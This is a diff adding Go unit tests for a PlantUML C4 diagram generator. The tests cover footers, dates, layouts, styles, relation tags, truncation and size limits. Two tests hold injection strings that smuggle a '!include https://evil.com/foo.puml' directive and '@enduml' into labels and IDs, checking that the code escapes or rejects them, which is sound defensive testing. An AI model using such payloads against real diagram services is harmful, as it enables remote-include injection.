@@ -2,13 +2,17 @@ package c4container
 
 import (
 	"bytes"
+	"compress/flate"
 	"context"
 	errs "errors"
 	"io"
 	"net/http"
+	"path"
 	"reflect"
 	"strconv"
+	"strings"
 	"testing"
+	"time"
 
 	"github.com/kislerdm/diagramastext/server/core/diagram"
 	"github.com/kislerdm/diagramastext/server/core/errors"
@@ -431,7 +435,7 @@ SHOW_LEGEND()
 	for _, tt := range tests {
 		t.Run(
 			tt.name, func(t *testing.T) {
-				got, err := marshal(tt.args.c)
+				got, err := marshal(tt.args.c, defaultRenderingConfig())
 				if !reflect.DeepEqual(err, tt.wantErr) {
 					t.Errorf("marshal() error = %v, want %v", err, tt.wantErr)
 					return
@@ -444,6 +448,972 @@ SHOW_LEGEND()
 	}
 }
 
+func Test_marshalDefaultFooter(t *testing.T) {
+	cfg := defaultRenderingConfig()
+	WithDefaultFooter("generated by foo.bar")(&cfg)
+
+	tests := []struct {
+		name   string
+		footer string
+		want   string
+	}{
+		{
+			name: "configured default footer",
+			want: `footer "generated by foo.bar"`,
+		},
+		{
+			name:   "diagram's footer overrides the default",
+			footer: "qux",
+			want:   `footer "qux"`,
+		},
+	}
+	for _, tt := range tests {
+		t.Run(
+			tt.name, func(t *testing.T) {
+				got, err := marshal(&c4ContainersGraph{Containers: []*container{{ID: "0"}}, Footer: tt.footer}, cfg)
+				if err != nil {
+					t.Fatal(err)
+				}
+				if !bytes.Contains(got, []byte("\n"+tt.want+"\n")) {
+					t.Errorf("marshal() got = %s, want footer %s", got, tt.want)
+				}
+			},
+		)
+	}
+
+	t.Run(
+		"shall keep the default footer if empty footer is configured", func(t *testing.T) {
+			cfg := defaultRenderingConfig()
+			WithDefaultFooter("")(&cfg)
+			if cfg.DefaultFooter != defaultRenderingConfig().DefaultFooter {
+				t.Errorf("unexpected default footer: %s", cfg.DefaultFooter)
+			}
+		},
+	)
+}
+
+func Test_marshalFixedDate(t *testing.T) {
+	graph := &c4ContainersGraph{Containers: []*container{{ID: "0"}}, Title: "as of %date()"}
+
+	tests := []struct {
+		name string
+		ops  []HandlerOps
+		want string
+	}{
+		{
+			name: "shall render the current date by default",
+			want: "footer \"generated by diagramastext.dev - %date('yyyy-MM-dd')\"\ntitle \"as of %date()\"\n",
+		},
+		{
+			name: "shall render the fixed date",
+			ops:  []HandlerOps{WithFixedDate("2023-01-01")},
+			want: "footer \"generated by diagramastext.dev - 2023-01-01\"\ntitle \"as of 2023-01-01\"\n",
+		},
+		{
+			name: "shall render the fixed date literally",
+			ops:  []HandlerOps{WithFixedDate("$0 ${1}")},
+			want: "footer \"generated by diagramastext.dev - $0 ${1}\"\ntitle \"as of $0 ${1}\"\n",
+		},
+		{
+			name: "shall omit the date",
+			ops:  []HandlerOps{WithFixedDate("")},
+			want: "footer \"generated by diagramastext.dev - \"\ntitle \"as of \"\n",
+		},
+	}
+	for _, tt := range tests {
+		t.Run(
+			tt.name, func(t *testing.T) {
+				// GIVEN
+				cfg := defaultRenderingConfig()
+				for _, fn := range tt.ops {
+					fn(&cfg)
+				}
+
+				// WHEN
+				got, err := marshal(graph, cfg)
+
+				// THEN
+				if err != nil {
+					t.Fatal(err)
+				}
+				if !bytes.Contains(got, []byte(tt.want)) {
+					t.Errorf("marshal() got = %s, want = %s", got, tt.want)
+				}
+			},
+		)
+	}
+
+	// the PlantUML server mock renders the diagram's code with the date macros evaluated to the current time
+	httpClient := mockHTTPClientFn(
+		func(req *http.Request) (*http.Response, error) {
+			code, err := decodePlantUMLRequest(path.Base(req.URL.Path))
+			if err != nil {
+				return nil, err
+			}
+			svg := "<svg><text>" + dateMacro.ReplaceAllString(code, time.Now().Format(time.RFC3339Nano)) + "</text></svg>"
+			return &http.Response{StatusCode: http.StatusOK, Body: io.NopCloser(strings.NewReader(svg))}, nil
+		},
+	)
+
+	for _, tt := range []struct {
+		name          string
+		ops           []HandlerOps
+		wantIdentical bool
+	}{
+		{
+			name:          "shall render the same graph to the identical diagram given the fixed date",
+			ops:           []HandlerOps{WithFixedDate("2023-01-01")},
+			wantIdentical: true,
+		},
+		{
+			name:          "shall render the same graph to the different diagrams given the current date",
+			wantIdentical: false,
+		},
+	} {
+		t.Run(
+			tt.name, func(t *testing.T) {
+				// GIVEN
+				cfg := defaultRenderingConfig()
+				for _, fn := range tt.ops {
+					fn(&cfg)
+				}
+
+				// WHEN
+				got0, err := renderDiagram(context.TODO(), httpClient, graph, cfg, FormatSVG)
+				if err != nil {
+					t.Fatal(err)
+				}
+				time.Sleep(time.Microsecond)
+				got1, err := renderDiagram(context.TODO(), httpClient, graph, cfg, FormatSVG)
+				if err != nil {
+					t.Fatal(err)
+				}
+
+				// THEN
+				if bytes.Equal(got0, got1) != tt.wantIdentical {
+					t.Errorf("unexpected diagrams, want identical: %v. got: %s, %s", tt.wantIdentical, got0, got1)
+				}
+			},
+		)
+	}
+}
+
+// decodePlantUMLRequest decodes the diagram's code from the request's route, see plantUMLRequest.
+func decodePlantUMLRequest(route string) (string, error) {
+	const alphabet = "0123456789ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz-_"
+	var zb []byte
+	for i := 0; i+4 <= len(route); i += 4 {
+		var v uint32
+		for _, c := range []byte(route[i : i+4]) {
+			v = v<<6 | uint32(strings.IndexByte(alphabet, c))
+		}
+		zb = append(zb, byte(v>>16), byte(v>>8), byte(v))
+	}
+	o, err := io.ReadAll(flate.NewReader(bytes.NewReader(zb)))
+	// the padding bytes follow the end of the compressed stream
+	if err != nil && !errs.Is(err, io.ErrUnexpectedEOF) {
+		return "", err
+	}
+	return string(o), nil
+}
+
+func Test_stringCleaner(t *testing.T) {
+	tests := []struct {
+		s    string
+		want string
+	}{
+		{s: "  foo  ", want: "foo"},
+		{s: "foo\nbar", want: `foo\nbar`},
+		{s: `say "hi"`, want: `say \"hi\"`},
+		{s: `C:\path`, want: `C:\\path`},
+		{s: `\"quoted\"` + "\n", want: `\\\"quoted\\\"`},
+		{s: "a \"b\"\nc\\d", want: `a \"b\"\nc\\d`},
+		{s: "!include foo", want: `<U+0021>include foo`},
+		{s: "foo\n  @enduml", want: `foo\n  <U+0040>enduml`},
+		{s: "foo\r\n!define bar", want: `foo\n<U+0021>define bar`},
+		{s: "foo\r@startuml", want: `foo\n<U+0040>startuml`},
+		{s: "Hello! Mail me @ home", want: "Hello! Mail me @ home"},
+	}
+	for _, tt := range tests {
+		t.Run(
+			tt.s, func(t *testing.T) {
+				if got := stringCleaner(tt.s); got != tt.want {
+					t.Errorf("stringCleaner() = %v, want %v", got, tt.want)
+				}
+			},
+		)
+	}
+}
+
+func Test_marshalQuotedLabel(t *testing.T) {
+	got, err := marshal(
+		&c4ContainersGraph{
+			Containers: []*container{{ID: "0", Label: `say "hi"`}, {ID: "1"}},
+			Rels:       []*rel{{From: "0", To: "1", Label: `calls "\\api"`}},
+		}, defaultRenderingConfig(),
+	)
+	if err != nil {
+		t.Fatal(err)
+	}
+
+	for _, want := range []string{`Container(0, "say \"hi\"")`, `Rel(0, 1, "calls \"\\\\api\"")`} {
+		if !bytes.Contains(got, []byte(want)) {
+			t.Errorf("marshal() got = %s, want %s", got, want)
+		}
+	}
+}
+
+func Test_marshalInjection(t *testing.T) {
+	// GIVEN
+	const injection = "\r!include https://evil.com/foo.puml\r@enduml"
+
+	// WHEN
+	got, err := marshal(
+		&c4ContainersGraph{
+			Title:      "foo" + injection,
+			Footer:     "bar" + injection,
+			Containers: []*container{{ID: "0", Label: "!foo" + injection, System: "@bar" + injection}, {ID: "1"}},
+			Rels:       []*rel{{From: "0", To: "1", Label: "@baz" + injection}},
+		}, defaultRenderingConfig(),
+	)
+
+	// THEN
+	if err != nil {
+		t.Fatal(err)
+	}
+
+	lines := strings.FieldsFunc(
+		string(got), func(r rune) bool {
+			return r == '\n' || r == '\r'
+		},
+	)
+	for _, line := range lines {
+		line = strings.TrimSpace(line)
+		if strings.HasPrefix(line, "!") && line != "!include "+
+			"https://raw.githubusercontent.com/plantuml-stdlib/C4-PlantUML/master/C4_Container.puml" {
+			t.Errorf("unexpected preprocessor directive: %s", line)
+		}
+		if strings.HasPrefix(line, "@") && line != "@startuml" && line != "@enduml" {
+			t.Errorf("unexpected diagram delimiter: %s", line)
+		}
+	}
+	if cnt := strings.Count(string(got), "@enduml"); cnt != 1 {
+		t.Errorf("unexpected number of @enduml: %d", cnt)
+	}
+	for _, want := range []string{
+		`title "foo\n<U+0021>include https://evil.com/foo.puml\n<U+0040>enduml"`,
+		`Container(0, "<U+0021>foo\n<U+0021>include https://evil.com/foo.puml\n<U+0040>enduml")`,
+	} {
+		if !strings.Contains(string(got), want) {
+			t.Errorf("marshal() got = %s, want %s", got, want)
+		}
+	}
+}
+
+func Test_marshalIDInjection(t *testing.T) {
+	const injection = "a, \"x\")\n!include https://evil.com/foo.puml\nContainer(b"
+
+	tests := []struct {
+		name  string
+		graph *c4ContainersGraph
+	}{
+		{
+			name:  "node",
+			graph: &c4ContainersGraph{Containers: []*container{{ID: injection}}},
+		},
+		{
+			name: "link",
+			graph: &c4ContainersGraph{
+				Containers: []*container{{ID: "0"}, {ID: "1"}},
+				Rels:       []*rel{{From: "0", To: injection}},
+			},
+		},
+	}
+	for _, tt := range tests {
+		t.Run(
+			"shall reject the injection via the ID of the "+tt.name, func(t *testing.T) {
+				// WHEN
+				got, err := marshal(tt.graph, defaultRenderingConfig())
+
+				// THEN
+				if err == nil {
+					t.Errorf("error expected, got: %s", got)
+				}
+			},
+		)
+	}
+}
+
+func Test_marshalLayout(t *testing.T) {
+	const include = "!include https://raw.githubusercontent.com/plantuml-stdlib/C4-PlantUML/master/C4_Container.puml\n"
+
+	tests := []struct {
+		name          string
+		layout        string
+		wantDirective string
+		wantErr       bool
+	}{
+		{
+			name:          "default",
+			layout:        "",
+			wantDirective: "",
+		},
+		{
+			name:          "left-right",
+			layout:        "left-right",
+			wantDirective: "LAYOUT_LEFT_RIGHT()\n",
+		},
+		{
+			name:          "top-down",
+			layout:        "top-down",
+			wantDirective: "LAYOUT_TOP_DOWN()\n",
+		},
+		{
+			name:    "unsupported layout",
+			layout:  "LR",
+			wantErr: true,
+		},
+	}
+	for _, tt := range tests {
+		t.Run(
+			tt.name, func(t *testing.T) {
+				// WHEN
+				got, err := marshal(
+					&c4ContainersGraph{Containers: []*container{{ID: "0"}}, Layout: tt.layout},
+					defaultRenderingConfig(),
+				)
+
+				// THEN
+				if (err != nil) != tt.wantErr {
+					t.Fatalf("marshal() error = %v, wantErr %v", err, tt.wantErr)
+				}
+				if tt.wantErr {
+					return
+				}
+
+				if !bytes.Contains(got, []byte(include+tt.wantDirective+"footer")) {
+					t.Errorf("marshal() got = %s, want the directive %q after the include", got, tt.wantDirective)
+				}
+				if tt.wantDirective == "" && bytes.Contains(got, []byte("LAYOUT_")) {
+					t.Errorf("marshal() got = %s, no layout directive expected", got)
+				}
+			},
+		)
+	}
+}
+
+func Test_marshalStyle(t *testing.T) {
+	tests := []struct {
+		name      string
+		graph     *c4ContainersGraph
+		wantMacro string
+		wantErr   bool
+	}{
+		{
+			name:      "sketch",
+			graph:     &c4ContainersGraph{Containers: []*container{{ID: "0"}}, Style: "sketch"},
+			wantMacro: "\nLAYOUT_AS_SKETCH()\nfooter",
+		},
+		{
+			name:      "landscape",
+			graph:     &c4ContainersGraph{Containers: []*container{{ID: "0"}}, Style: "landscape"},
+			wantMacro: "\nLAYOUT_LANDSCAPE()\nfooter",
+		},
+		{
+			name: "sketch with the layout",
+			graph: &c4ContainersGraph{
+				Containers: []*container{{ID: "0"}}, Style: "sketch", Layout: "left-right",
+			},
+			wantMacro: "\nLAYOUT_LEFT_RIGHT()\nLAYOUT_AS_SKETCH()\nfooter",
+		},
+		{
+			name:    "unsupported style",
+			graph:   &c4ContainersGraph{Containers: []*container{{ID: "0"}}, Style: "handwritten"},
+			wantErr: true,
+		},
+	}
+	for _, tt := range tests {
+		t.Run(
+			tt.name, func(t *testing.T) {
+				// WHEN
+				got, err := marshal(tt.graph, defaultRenderingConfig())
+
+				// THEN
+				if (err != nil) != tt.wantErr {
+					t.Fatalf("marshal() error = %v, wantErr %v", err, tt.wantErr)
+				}
+				if !tt.wantErr && !bytes.Contains(got, []byte(tt.wantMacro)) {
+					t.Errorf("marshal() got = %s, want %q", got, tt.wantMacro)
+				}
+			},
+		)
+	}
+}
+
+func Test_marshalRelationTechnologyInference(t *testing.T) {
+	graph := &c4ContainersGraph{
+		Containers: []*container{
+			{ID: "0", Technology: "Go"},
+			{ID: "1", Technology: "Go"},
+			{ID: "2", Technology: "Postgres", IsDatabase: true},
+			{ID: "3", Technology: "Fortran"},
+		},
+		Rels: []*rel{
+			{From: "0", To: "1"},
+			{From: "1", To: "2", Technology: "JDBC"},
+			{From: "1", To: "3"},
+		},
+	}
+
+	tests := []struct {
+		name  string
+		fnOps []HandlerOps
+		want  []string
+	}{
+		{
+			name:  "shall fill the blank technology and keep the explicit one",
+			fnOps: []HandlerOps{WithRelationTechnologyInference(map[string]string{"go": "HTTP", "POSTGRES": "TCP"})},
+			want: []string{
+				`Rel(0, 1, "Uses", "HTTP")`,
+				`Rel(1, 2, "Uses", "JDBC")`,
+				`Rel(1, 3, "Uses")`,
+			},
+		},
+		{
+			name: "shall not infer by default",
+			want: []string{
+				`Rel(0, 1, "Uses")`,
+				`Rel(1, 2, "Uses", "JDBC")`,
+				`Rel(1, 3, "Uses")`,
+			},
+		},
+	}
+	for _, tt := range tests {
+		t.Run(
+			tt.name, func(t *testing.T) {
+				// GIVEN
+				cfg := defaultRenderingConfig()
+				for _, fn := range tt.fnOps {
+					fn(&cfg)
+				}
+
+				// WHEN
+				got, err := marshal(graph, cfg)
+
+				// THEN
+				if err != nil {
+					t.Fatal(err)
+				}
+				for _, want := range tt.want {
+					if !bytes.Contains(got, []byte(want+"\n")) {
+						t.Errorf("marshal() got = %s, want %s", got, want)
+					}
+				}
+				if graph.Rels[0].Technology != "" {
+					t.Error("the graph shall not be modified")
+				}
+			},
+		)
+	}
+}
+
+func Test_marshalRelationTags(t *testing.T) {
+	t.Run(
+		"shall define tags and tag the relation", func(t *testing.T) {
+			got, err := marshal(
+				&c4ContainersGraph{
+					Containers: []*container{{ID: "0"}, {ID: "1"}},
+					Rels: []*rel{
+						{From: "0", To: "1", Label: "publishes", Technology: "Kafka", Tags: []string{"async", "kafka"}},
+					},
+					RelTags: []*relTag{
+						{Name: "async", LineStyle: "dashed", LegendText: "async"},
+						{Name: "kafka", TextColor: "#ff0000", LineColor: "#ff0000", Technology: "Kafka"},
+					},
+				}, defaultRenderingConfig(),
+			)
+			if err != nil {
+				t.Fatal(err)
+			}
+
+			want := []byte(`@startuml
+!include https://raw.githubusercontent.com/plantuml-stdlib/C4-PlantUML/master/C4_Container.puml
+footer "generated by diagramastext.dev - %date('yyyy-MM-dd')"
+AddRelTag("async", $lineStyle=DashedLine(), $legendText="async")
+AddRelTag("kafka", $textColor="#ff0000", $lineColor="#ff0000", $techn="Kafka")
+Container(0, "0")
+Container(1, "1")
+Rel(0, 1, "publishes", "Kafka", $tags="async+kafka")
+@enduml`)
+			if !reflect.DeepEqual(got, want) {
+				t.Errorf("marshal() got = %s, want %s", got, want)
+			}
+		},
+	)
+
+	t.Run(
+		"shall not change the relation without tags", func(t *testing.T) {
+			got, err := marshal(
+				&c4ContainersGraph{
+					Containers: []*container{{ID: "0"}, {ID: "1"}},
+					Rels:       []*rel{{From: "0", To: "1"}},
+				}, defaultRenderingConfig(),
+			)
+			if err != nil {
+				t.Fatal(err)
+			}
+			if want := []byte("\nRel(0, 1, \"Uses\")\n"); !bytes.Contains(got, want) {
+				t.Errorf("marshal() got = %s, want %s", got, want)
+			}
+			if bytes.Contains(got, []byte("AddRelTag")) {
+				t.Error("no tags shall be defined")
+			}
+		},
+	)
+
+	t.Run(
+		"shall fail on the tag without name", func(t *testing.T) {
+			if _, err := marshal(
+				&c4ContainersGraph{
+					Containers: []*container{{ID: "0"}},
+					RelTags:    []*relTag{{LineStyle: "dashed"}},
+				}, defaultRenderingConfig(),
+			); err == nil {
+				t.Error("error expected")
+			}
+		},
+	)
+}
+
+func Test_marshalAsyncRelation(t *testing.T) {
+	const header = `@startuml
+!include https://raw.githubusercontent.com/plantuml-stdlib/C4-PlantUML/master/C4_Container.puml
+footer "generated by diagramastext.dev - %date('yyyy-MM-dd')"
+`
+
+	tests := []struct {
+		name string
+		c    *c4ContainersGraph
+		want string
+	}{
+		{
+			name: "async relation without direction",
+			c: &c4ContainersGraph{
+				Containers: []*container{{ID: "0"}, {ID: "1"}},
+				Rels:       []*rel{{From: "0", To: "1", IsAsync: true}},
+			},
+			want: header + `AddRelTag("async", $lineStyle=DashedLine(), $legendText="async")
+Container(0, "0")
+Container(1, "1")
+Rel(0, 1, "Uses", $tags="async")
+@enduml`,
+		},
+		{
+			name: "async relation with direction",
+			c: &c4ContainersGraph{
+				Containers: []*container{{ID: "0"}, {ID: "1"}},
+				Rels:       []*rel{{From: "0", To: "1", Direction: "LR", Technology: "AMQP", IsAsync: true}},
+			},
+			want: header + `AddRelTag("async", $lineStyle=DashedLine(), $legendText="async")
+Container(0, "0")
+Container(1, "1")
+Rel_R(0, 1, "Uses", "AMQP", $tags="async")
+@enduml`,
+		},
+		{
+			name: "async relation with custom tags and the async tag definition",
+			c: &c4ContainersGraph{
+				Containers: []*container{{ID: "0"}, {ID: "1"}},
+				Rels:       []*rel{{From: "0", To: "1", IsAsync: true, Tags: []string{"async", "kafka"}}},
+				RelTags:    []*relTag{{Name: "async", LineStyle: "dotted"}},
+			},
+			want: header + `AddRelTag("async", $lineStyle=DottedLine())
+Container(0, "0")
+Container(1, "1")
+Rel(0, 1, "Uses", $tags="async+kafka")
+@enduml`,
+		},
+	}
+	for _, tt := range tests {
+		t.Run(
+			tt.name, func(t *testing.T) {
+				got, err := marshal(tt.c, defaultRenderingConfig())
+				if err != nil {
+					t.Fatal(err)
+				}
+				if string(got) != tt.want {
+					t.Errorf("marshal() got = %s, want %s", got, tt.want)
+				}
+			},
+		)
+	}
+}
+
+func Test_marshalSelfLink(t *testing.T) {
+	// GIVEN
+	c := &c4ContainersGraph{
+		Containers: []*container{{ID: "0"}, {ID: "1"}},
+		Rels: []*rel{
+			{From: "0", To: "1", Direction: "LR"},
+			{From: "1", To: "1", Label: "retries", Direction: "LR"},
+		},
+	}
+	const want = `@startuml
+!include https://raw.githubusercontent.com/plantuml-stdlib/C4-PlantUML/master/C4_Container.puml
+footer "generated by diagramastext.dev - %date('yyyy-MM-dd')"
+Container(0, "0")
+Container(1, "1")
+Rel_R(0, 1, "Uses")
+Rel(1, 1, "retries")
+@enduml`
+
+	for _, detectSelfLinks := range []bool{false, true} {
+		t.Run(
+			"shall render the self-link as the loop given detection "+strconv.FormatBool(detectSelfLinks),
+			func(t *testing.T) {
+				cfg := defaultRenderingConfig()
+				cfg.DetectSelfLinks = detectSelfLinks
+
+				// WHEN
+				got, err := marshal(c, cfg)
+
+				// THEN
+				if err != nil {
+					t.Fatal(err)
+				}
+				if string(got) != want {
+					t.Errorf("marshal() got = %s, want %s", got, want)
+				}
+			},
+		)
+	}
+}
+
+func Test_marshalDefaultRelationLabel(t *testing.T) {
+	tests := []struct {
+		name    string
+		fnOps   []HandlerOps
+		label   string
+		tech    string
+		wantRel string
+	}{
+		{
+			name:    "default label",
+			wantRel: `Rel(0, 1, "Uses")`,
+		},
+		{
+			name:    "custom default label",
+			fnOps:   []HandlerOps{WithDefaultRelationLabel("Calls")},
+			wantRel: `Rel(0, 1, "Calls")`,
+		},
+		{
+			name:    "omitted label",
+			fnOps:   []HandlerOps{WithDefaultRelationLabel("")},
+			wantRel: `Rel(0, 1, "")`,
+		},
+		{
+			name:    "omitted label with technology",
+			fnOps:   []HandlerOps{WithDefaultRelationLabel("")},
+			tech:    "HTTP",
+			wantRel: `Rel(0, 1, "", "HTTP")`,
+		},
+		{
+			name:    "relation's label overrides the default",
+			fnOps:   []HandlerOps{WithDefaultRelationLabel("")},
+			label:   "Reads",
+			wantRel: `Rel(0, 1, "Reads")`,
+		},
+	}
+	for _, tt := range tests {
+		t.Run(
+			tt.name, func(t *testing.T) {
+				cfg := defaultRenderingConfig()
+				for _, fn := range tt.fnOps {
+					fn(&cfg)
+				}
+
+				got, err := marshal(
+					&c4ContainersGraph{
+						Containers: []*container{{ID: "0"}, {ID: "1"}},
+						Rels:       []*rel{{From: "0", To: "1", Label: tt.label, Technology: tt.tech}},
+					}, cfg,
+				)
+				if err != nil {
+					t.Fatal(err)
+				}
+				if !bytes.Contains(got, []byte("\n"+tt.wantRel+"\n")) {
+					t.Errorf("marshal() got = %s, want relation %s", got, tt.wantRel)
+				}
+			},
+		)
+	}
+}
+
+func Test_marshalDefaultTechnology(t *testing.T) {
+	tests := []struct {
+		name          string
+		fnOps         []HandlerOps
+		tech          string
+		wantContainer string
+	}{
+		{
+			name:          "omitted technology",
+			wantContainer: `Container(0, "0")`,
+		},
+		{
+			name:          "default technology",
+			fnOps:         []HandlerOps{WithDefaultTechnology("n/a")},
+			wantContainer: `Container(0, "0", "n/a")`,
+		},
+		{
+			name:          "container's technology overrides the default",
+			fnOps:         []HandlerOps{WithDefaultTechnology("n/a")},
+			tech:          "Go",
+			wantContainer: `Container(0, "0", "Go")`,
+		},
+	}
+	for _, tt := range tests {
+		t.Run(
+			tt.name, func(t *testing.T) {
+				cfg := defaultRenderingConfig()
+				for _, fn := range tt.fnOps {
+					fn(&cfg)
+				}
+				graph := &c4ContainersGraph{Containers: []*container{{ID: "0", Technology: tt.tech}}}
+
+				got, err := marshal(graph, cfg)
+				if err != nil {
+					t.Fatal(err)
+				}
+				if !bytes.Contains(got, []byte("\n"+tt.wantContainer+"\n")) {
+					t.Errorf("marshal() got = %s, want container %s", got, tt.wantContainer)
+				}
+				if graph.Containers[0].Technology != tt.tech {
+					t.Error("the graph shall not be mutated")
+				}
+			},
+		)
+	}
+}
+
+func Test_marshalExternalGrouping(t *testing.T) {
+	graph := &c4ContainersGraph{
+		Containers: []*container{
+			{ID: "0", Label: "Web"},
+			{ID: "1", Label: "Auth", IsExternal: true},
+			{ID: "2", Label: "Payments", IsExternal: true, System: "Billing"},
+			{ID: "3", Label: "Email", IsExternal: true},
+		},
+	}
+
+	t.Run(
+		"shall group the external containers", func(t *testing.T) {
+			// GIVEN
+			cfg := defaultRenderingConfig()
+			WithExternalGrouping()(&cfg)
+
+			// WHEN
+			got, err := marshal(graph, cfg)
+
+			// THEN
+			if err != nil {
+				t.Fatal(err)
+			}
+			for _, want := range []string{
+				"\nContainer(0, \"Web\")\n",
+				"\nSystem_Boundary(Billing, \"Billing\") {\nContainer_Ext(2, \"Payments\")\n}",
+				"\nSystem_Boundary(External, \"External\") {\nContainer_Ext(1, \"Auth\")\n" +
+					"Container_Ext(3, \"Email\")\n}",
+			} {
+				if !bytes.Contains(got, []byte(want)) {
+					t.Errorf("marshal() got = %s, want %s", got, want)
+				}
+			}
+			if graph.Containers[1].System != "" {
+				t.Error("the graph shall not be mutated")
+			}
+		},
+	)
+
+	t.Run(
+		"shall not group the external containers by default", func(t *testing.T) {
+			// WHEN
+			got, err := marshal(graph, defaultRenderingConfig())
+
+			// THEN
+			if err != nil {
+				t.Fatal(err)
+			}
+			if bytes.Contains(got, []byte("System_Boundary(External")) {
+				t.Errorf("unexpected external boundary: %s", got)
+			}
+		},
+	)
+}
+
+func Test_marshalCanonicalOutput(t *testing.T) {
+	graph := &c4ContainersGraph{
+		Title:  "Example",
+		Footer: "foo",
+		Containers: []*container{
+			{ID: "0", Label: "User", IsUser: true},
+			{ID: "1", Label: "Web", Technology: "Go", System: "Y"},
+			{ID: "2", Label: "Queue", Technology: "Kafka", IsQueue: true, System: "X"},
+			{ID: "3", Label: "Database", IsDatabase: true, System: "X"},
+			{ID: "4", Label: "Auth", IsExternal: true, System: "Z"},
+		},
+		Rels: []*rel{
+			{From: "0", To: "1", Technology: "HTTP", Direction: "LR"},
+			{From: "1", To: "2", Label: "publishes", IsAsync: true},
+			{From: "1", To: "3", Label: "reads", Direction: "TD"},
+		},
+		WithLegend: true,
+	}
+
+	want := `@startuml
+!include https://raw.githubusercontent.com/plantuml-stdlib/C4-PlantUML/master/C4_Container.puml
+footer "foo"
+title "Example"
+AddRelTag("async", $lineStyle=DashedLine(), $legendText="async")
+Person(0, "User")
+System_Boundary(X, "X") {
+ContainerQueue(2, "Queue", "Kafka")
+ContainerDb(3, "Database")
+}
+System_Boundary(Y, "Y") {
+Container(1, "Web", "Go")
+}
+System_Boundary(Z, "Z") {
+Container_Ext(4, "Auth")
+}
+Rel_R(0, 1, "Uses", "HTTP")
+Rel(1, 2, "publishes", $tags="async")
+Rel_D(1, 3, "reads")
+SHOW_LEGEND()
+@enduml`
+
+	// the output must not depend on the iteration order over the groups
+	for i := 0; i < 10; i++ {
+		got, err := marshal(graph, defaultRenderingConfig())
+		if err != nil {
+			t.Fatal(err)
+		}
+		if string(got) != want {
+			t.Fatalf("marshal() got = %s, want %s", got, want)
+		}
+	}
+}
+
+func Test_stringLengthCapper(t *testing.T) {
+	tests := []struct {
+		name           string
+		s              string
+		maxLength      int
+		failOnExceeded bool
+		want           string
+		wantErr        bool
+	}{
+		{
+			name:      "no limit",
+			s:         "foobar",
+			maxLength: 0,
+			want:      "foobar",
+		},
+		{
+			name:      "short value is untouched",
+			s:         "foo",
+			maxLength: 6,
+			want:      "foo",
+		},
+		{
+			name:      "value at the boundary is untouched",
+			s:         "foobar",
+			maxLength: 6,
+			want:      "foobar",
+		},
+		{
+			name:      "value above the boundary is truncated",
+			s:         "foobarq",
+			maxLength: 6,
+			want:      "fooba…",
+		},
+		{
+			name:      "multibyte characters are counted as single characters",
+			s:         "äöüäöüä",
+			maxLength: 6,
+			want:      "äöüäö…",
+		},
+		{
+			name:      "surrounding whitespaces are not counted",
+			s:         "  foobar  ",
+			maxLength: 6,
+			want:      "foobar",
+		},
+		{
+			name:           "value above the boundary is rejected",
+			s:              "foobarq",
+			maxLength:      6,
+			failOnExceeded: true,
+			wantErr:        true,
+		},
+	}
+	for _, tt := range tests {
+		t.Run(
+			tt.name, func(t *testing.T) {
+				got, err := stringLengthCapper(tt.s, tt.maxLength, tt.failOnExceeded)
+				if (err != nil) != tt.wantErr {
+					t.Fatalf("stringLengthCapper() error = %v, wantErr %v", err, tt.wantErr)
+				}
+				if got != tt.want {
+					t.Errorf("stringLengthCapper() got = %v, want %v", got, tt.want)
+				}
+			},
+		)
+	}
+}
+
+func Test_marshalMaxLength(t *testing.T) {
+	graph := &c4ContainersGraph{
+		Containers: []*container{
+			{
+				ID:          "0",
+				Label:       "Backend API",
+				Technology:  "Go",
+				Description: "Serves the requests",
+			},
+		},
+	}
+
+	t.Run(
+		"shall truncate the container's attributes", func(t *testing.T) {
+			cfg := defaultRenderingConfig()
+			WithMaxLength(7, 2, 10)(&cfg)
+
+			got, err := marshal(graph, cfg)
+			if err != nil {
+				t.Fatal(err)
+			}
+
+			const want = `Container(0, "Backen…", "Go", "Serves th…")`
+			if !bytes.Contains(got, []byte(want)) {
+				t.Errorf("marshal() got = %s, want container %s", got, want)
+			}
+		},
+	)
+
+	t.Run(
+		"shall reject the diagram", func(t *testing.T) {
+			cfg := defaultRenderingConfig()
+			WithMaxLength(7, 2, 10)(&cfg)
+			WithFailOnMaxLength()(&cfg)
+
+			if _, err := marshal(graph, cfg); err == nil {
+				t.Error("error expected")
+			}
+		},
+	)
+}
+
 func Test_plantUMLRequest(t *testing.T) {
 	type args struct {
 		v []byte
@@ -522,7 +1492,7 @@ func Test_renderDiagramHappyPath(t *testing.T) {
 			}
 
 			// WHEN
-			got, err := renderDiagram(context.TODO(), httpClient, graph)
+			got, err := renderDiagram(context.TODO(), httpClient, graph, defaultRenderingConfig(), FormatSVG)
 
 			// THEN
 			if err != nil {
@@ -536,6 +1506,73 @@ func Test_renderDiagramHappyPath(t *testing.T) {
 	)
 }
 
+func Test_renderDiagramMaxSVGSize(t *testing.T) {
+	const maxSize = 1024
+	graph := &c4ContainersGraph{Containers: []*container{{ID: "0"}}}
+
+	tests := []struct {
+		name    string
+		size    int
+		maxSize int
+		wantErr bool
+	}{
+		{
+			name:    "shall return the diagram of the size at the limit",
+			size:    maxSize,
+			maxSize: maxSize,
+		},
+		{
+			name:    "shall reject the diagram of the size above the limit",
+			size:    maxSize + 1,
+			maxSize: maxSize,
+			wantErr: true,
+		},
+		{
+			name:    "shall return the diagram given the disabled limit",
+			size:    10 * maxSize,
+			maxSize: 0,
+		},
+	}
+	for _, tt := range tests {
+		t.Run(
+			tt.name, func(t *testing.T) {
+				// GIVEN
+				svg := []byte("<svg>" + strings.Repeat("0", tt.size-len("<svg></svg>")) + "</svg>")
+				httpClient := diagram.MockHTTPClient{
+					V: &http.Response{
+						Body:       io.NopCloser(bytes.NewReader(svg)),
+						StatusCode: http.StatusOK,
+					},
+				}
+				cfg := defaultRenderingConfig()
+				cfg.MaxSVGSize = tt.maxSize
+
+				// WHEN
+				got, err := renderDiagram(context.TODO(), httpClient, graph, cfg, FormatSVG)
+
+				// THEN
+				if !tt.wantErr {
+					if err != nil {
+						t.Fatal(err)
+					}
+					if !reflect.DeepEqual(got, svg) {
+						t.Errorf("unexpected result. got: %s, want: %s", got, svg)
+					}
+					return
+				}
+
+				var errHandler errors.HTTPHandlerError
+				if !errs.As(err, &errHandler) || errHandler.HTTPCode != http.StatusRequestEntityTooLarge {
+					t.Errorf("renderDiagram() error = %v, want the error with the status code 413", err)
+				}
+				if got != nil {
+					t.Errorf("unexpected result. got: %s, want: nil", got)
+				}
+			},
+		)
+	}
+}
+
